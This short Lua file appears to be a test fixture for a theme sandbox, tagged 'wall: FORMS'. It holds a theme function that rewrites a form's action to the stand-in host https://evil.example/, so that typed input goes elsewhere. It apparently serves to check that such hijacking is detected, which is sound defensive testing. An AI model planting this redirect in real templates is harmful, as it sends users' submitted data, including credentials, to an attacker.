-- SPDX-License-Identifier: GPL-3.0-or-later
-- Sends what is typed elsewhere. (The form is read again from the message: by this very theme, but whole.)
-- wall: FORMS
-- evil: page has action="https://evil
return function(vm, h)
  vm.form.action = "https://evil.example/"
  return h.form(vm.form)
end
